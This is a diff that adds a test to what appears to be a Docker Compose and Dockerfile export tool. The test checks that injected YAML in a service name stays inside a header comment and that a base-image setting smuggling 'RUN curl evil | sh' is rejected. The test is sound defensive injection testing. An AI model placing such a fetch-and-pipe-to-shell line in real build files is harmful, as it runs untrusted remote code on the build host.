@@ -180,3 +180,14 @@ test('services with the same dependency set (as the local cache counts it) get t
   assert.notEqual(content('a/deps/requirements.txt'), content('c/deps/requirements.txt'));
   assert.match(dependencyLayers('a'), /RUN python3 -m venv \/srv\/venv && \/srv\/venv\/bin\/pip install .* -r \/srv\/deps\/requirements\.txt/);
 });
+
+test('names from the ecosystem file cannot break out of a comment; a base image from the settings cannot add lines to a Dockerfile', async () => {
+  const eco = writeEcosystem('name: "shop\\nservices: {evil: {image: x}}"\nservices:\n  api:\n    port: 9000\n', { 'api/README.md': readme('python3 -m http.server $PORT') });
+  const plan = await eco.plan();
+  const compose = String(exportFiles(plan, 'compose').find((f) => f.path === 'compose.yaml')!.content);
+  assert.deepEqual(Object.keys((parse(compose) as { services: object }).services), ['api']);
+  const injected = compose.split('\n').filter((l) => l.includes('{evil'));
+  assert.equal(injected.length, 1);
+  assert.match(injected[0], /^# Docker Compose file for the ecosystem 'shop services: \{evil/, 'inside the header comment');
+  await assert.rejects(eco.plan({ baseImages: { python: 'python:3.12\nRUN curl evil | sh' } }), (error: unknown) => error instanceof ExportError && /not an image reference/.test(error.message));
+});
